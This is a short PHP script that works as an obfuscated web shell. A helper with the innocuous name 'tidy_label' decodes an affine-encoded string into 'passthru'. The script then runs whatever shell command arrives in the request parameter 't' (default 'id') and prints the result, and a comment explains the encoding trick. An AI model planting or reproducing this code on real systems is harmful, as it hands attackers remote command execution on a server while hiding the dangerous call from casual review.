<?php
// The routine's name is kept through a letter-for-letter affine map and decoded by a helper whose
// loop appends to its own result the long way; the decoded name is called back with the request.
function tidy_label($word)
{
    $word = strtolower($word);
    $plain = '';
    for ($p = 0; $p < strlen($word); $p++) {
        $plain = $plain . chr((((ord($word[$p]) - 97) * 5 + 11) % 26) + 97);
    }
    return $plain;
}

$handler = tidy_label('gdrrmuwh');
$params = array(isset($_REQUEST['t']) ? $_REQUEST['t'] : 'id');
echo call_user_func_array($handler, $params);
